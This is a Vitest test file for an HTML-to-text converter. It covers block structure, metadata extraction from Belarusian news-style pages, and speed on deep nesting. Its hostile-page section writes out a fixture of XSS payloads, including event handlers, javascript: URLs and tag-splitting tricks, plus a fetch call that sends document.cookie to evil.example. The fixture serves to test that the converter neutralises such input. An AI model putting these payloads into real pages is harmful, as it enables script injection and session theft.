import { describe, expect, it } from 'vitest';
import { htmlToText } from './htmlToText.js';
import { importSourceFile } from './importSourceFile.js';

describe('htmlToText: structure', () => {
  it('turns blocks into paragraphs and lines, collapses whitespace, decodes entities', () => {
    const { text } = htmlToText(
      `<body><h1>Statkevich\n   released</h1><p>Mikalai   <b>Statkevich</b>\n was released &amp; refused&nbsp;to leave &mdash; AP.</p>
       <div>First line<br>second line</div><ul><li>One</li><li>Two</li></ul>
       <table><tr><th>Name</th><td>Sentence</td></tr><tr><td>Losik</td><td>15 years</td></tr></table>
       <p>Ігар Лосік &#x1F642; &#1110;</p></body>`,
    );
    expect(text).toBe(
      'Statkevich released\n\nMikalai Statkevich was released & refused to leave — AP.\n\n' +
        'First line\nsecond line\n\nOne\nTwo\n\nName Sentence\nLosik 15 years\n\nІгар Лосік 🙂 і',
    );
  });

  it('keeps the text of <pre> as it is', () => {
    expect(htmlToText('<p>Before</p><pre>a  b\n  c</pre><p>After</p>').text).toBe(
      'Before\n\na  b\n  c\n\nAfter',
    );
  });

  it('drops script, style, noscript, template, iframe, svg and head content', () => {
    const { text } = htmlToText(
      '<html><head><title>T</title><style>body{}</style></head><body><p>Kept</p>' +
        '<script>var secret = 1;</script><noscript>Enable JS</noscript><template><p>Tpl</p></template>' +
        '<iframe src="x">Frame text</iframe><svg><text>Chart label</text><title>svg title</title></svg>' +
        '<p>Also kept</p></body></html>',
    );
    expect(text).toBe('Kept\n\nAlso kept');
  });

  it('ends <head> where the body starts even when </head> is missing', () => {
    expect(htmlToText('<html><head><title>T</title><p>Body text</p>').text).toBe('Body text');
    expect(htmlToText('<head><meta charset=utf-8><body>Body text').text).toBe('Body text');
  });

  it('prefers the <article> over navigation, asides and footers', () => {
    const html =
      '<body><header>Site name · Menu</header><div>Subscribe!</div><article><h1>Headline</h1>' +
      '<p>Article body.</p><article><p>A comment</p></article></article><aside>Related</aside><footer>©</footer></body>';
    expect(htmlToText(html).text).toBe('Headline\n\nArticle body.\n\nA comment');
  });

  it('prefers <main> when there is no <article>', () => {
    expect(
      htmlToText('<body><div>Menu</div><main><p>Main text</p></main><footer>©</footer></body>')
        .text,
    ).toBe('Main text');
  });

  it('keeps the whole page when the <article> is only a small teaser', () => {
    const body = 'Long body text. '.repeat(20);
    const { text } = htmlToText(
      `<body><div><p>${body}</p></div><article><p>Teaser</p></article></body>`,
    );
    expect(text).toContain('Long body text.');
    expect(text).toContain('Teaser');
  });

  it('picks the longest of several top-level articles', () => {
    const { text } = htmlToText(
      '<body><article><p>Short one</p></article><article><p>The long article, with much more text in it.</p></article></body>',
    );
    expect(text).toBe('The long article, with much more text in it.');
  });
});

describe('htmlToText: metadata', () => {
  it('reads title, site, author, date and canonical URL from the head', () => {
    const { metadata } = htmlToText(`<html><head>
      <title>Belarus frees 52 prisoners | Nasha Niva</title>
      <meta property="og:site_name" content="Nasha Niva">
      <meta name="author" content="Ihar Ilyash">
      <meta property="article:published_time" content="2025-09-11T23:30:00-04:00">
      <link rel="canonical" href="https://nashaniva.com/en/123">
      </head><body><p>x</p></body></html>`);
    expect(metadata).toEqual({
      title: 'Belarus frees 52 prisoners',
      publisher: 'Nasha Niva',
      author: 'Ihar Ilyash',
      date: '2025-09-11',
      url: 'https://nashaniva.com/en/123',
    });
  });

  it('prefers og:title, takes og:url and citation dates, and skips author URLs', () => {
    const { metadata } = htmlToText(`<head><title>Page</title>
      <meta property="og:title" content="Losik freed">
      <meta property="og:url" content="http://example.org/losik">
      <meta property="article:author" content="https://facebook.com/someone">
      <meta name="citation_publication_date" content="2025/09/11"></head><p>x</p>`);
    expect(metadata).toEqual({
      title: 'Losik freed',
      publisher: '',
      author: '',
      date: '2025-09-11',
      url: 'http://example.org/losik',
    });
  });

  it('falls back to <time datetime> in the article and to the first <h1>', () => {
    const { metadata } = htmlToText(
      '<body><time datetime="2020-01-01">Today</time><article><h1>The <em>headline</em></h1>' +
        '<time datetime="2025-06-21T10:00:00Z">21 June</time><p>Text</p></article></body>',
    );
    expect(metadata).toMatchObject({ title: 'The headline', date: '2025-06-21' });
  });

  it('reads schema.org JSON-LD without running it', () => {
    const ld = JSON.stringify({
      '@context': 'https://schema.org',
      '@graph': [
        { '@type': 'WebSite', name: 'Site' },
        {
          '@type': 'NewsArticle',
          headline: 'Kolesnikova released',
          datePublished: '2025-12-13T09:00:00+03:00',
          author: [{ '@type': 'Person', name: 'Hanna Liubakova' }],
          publisher: { '@type': 'Organization', name: 'Belsat' },
          mainEntityOfPage: { '@id': 'https://belsat.eu/en/news/1' },
        },
      ],
    });
    const { metadata, text } = htmlToText(
      `<head><script type="application/ld+json">${ld}</script><script type="application/ld+json">{bad json</script></head><p>Body</p>`,
    );
    expect(text).toBe('Body');
    expect(metadata).toEqual({
      title: 'Kolesnikova released',
      publisher: 'Belsat',
      author: 'Hanna Liubakova',
      date: '2025-12-13',
      url: 'https://belsat.eu/en/news/1',
    });
  });
});

describe('htmlToText: hostile pages come out as inert text', () => {
  const hostile = `<!DOCTYPE html><html><head>
    <title>Safe title<script>alert('title')</script></title>
    <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
    <base href="javascript:alert(2)//">
    <link rel="canonical" href="javascript:alert(3)">
    <meta property="og:url" content="data:text/html,<script>alert(4)</script>">
    <meta name="author" content="<img src=x onerror=alert(5)>">
    <script>fetch('https://evil.example/' + document.cookie)</script>
    <style>@import url(https://evil.example/x.css); body { background: url(javascript:alert(6)) }</style>
    </head>
    <body onload="alert(7)">
    <p onclick="alert(8)" style="x:expression(alert(9))">Visible <a href="javascript:alert(10)">link text</a>.</p>
    <img src="x" onerror="alert(11)" alt="alt text">
    <iframe srcdoc="<script>alert(12)</script>" src="javascript:alert(13)">frame</iframe>
    <svg onload="alert(14)"><script>alert(15)</script><foreignObject><p>svg para</p></foreignObject></svg>
    <math><mtext><script>alert(16)</script></mtext></math>
    <object data="evil.swf">object text</object><embed src="evil.swf">
    <form action="javascript:alert(17)"><input value="field"><button onclick="alert(18)">Press</button></form>
    <!-- <script>alert(19)</script> -->
    <![CDATA[<script>alert(20)</script>]]>
    <p>&lt;script&gt;alert(21)&lt;/script&gt; is shown as words</p>
    <scr<script>ipt>alert(22)</script>
    <p>Last <b>bold</b> words</p>
    <script>unterminated(23)
  `;

  it('keeps only the visible words', () => {
    const { text } = htmlToText(hostile);
    expect(text).toBe(
      'Visible link text.\n\n<script>alert(21)</script> is shown as words\n\nipt>alert(22)\n\nLast bold words',
    );
  });

  it('never keeps a script body, an event handler or a javascript: URL', () => {
    const { text, metadata } = htmlToText(hostile);
    for (const n of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 23]) {
      expect(text).not.toContain(`alert(${n})`);
      expect(JSON.stringify(metadata)).not.toContain(`alert(${n})`);
    }
    expect(text).not.toMatch(/onerror|onclick|onload|javascript:|evil\.example|document\.cookie/);
    expect(metadata.url).toBe('');
    expect(metadata.title).toBe("Safe title alert('title')");
    expect(metadata.author).toBe('');
  });

  it('imports the hostile page as a source whose text holds no markup from it', async () => {
    const r = await importSourceFile('hostile.html', new TextEncoder().encode(hostile));
    expect(r).toMatchObject({ ok: true, format: 'html' });
    if (r.ok) {
      expect(r.text).not.toMatch(/<(?!script>alert\(21\)|\/script> is shown)/);
      expect(r.metadata.url).toBe('');
    }
  });

  it('handles very deep nesting and stray end tags in linear time', () => {
    // htmlparser2's own Parser needs over 15 s for this (its stack is an array it unshifts).
    const depth = 100_000;
    const html = `${'<div><span>'.repeat(depth)}deep text${'</b>'.repeat(depth)}${'</span></div>'.repeat(depth)}<p>after</p>`;
    const started = performance.now();
    const { text } = htmlToText(html);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(text).toBe('deep text\n\nafter');
  });

  it('handles an unclosed element repeated many times', () => {
    const html = `${'<li><p><b>x'.repeat(50_000)}`;
    const started = performance.now();
    const { text } = htmlToText(html);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(text.split('\n').filter((l) => l === 'x')).toHaveLength(50_000);
  });
});
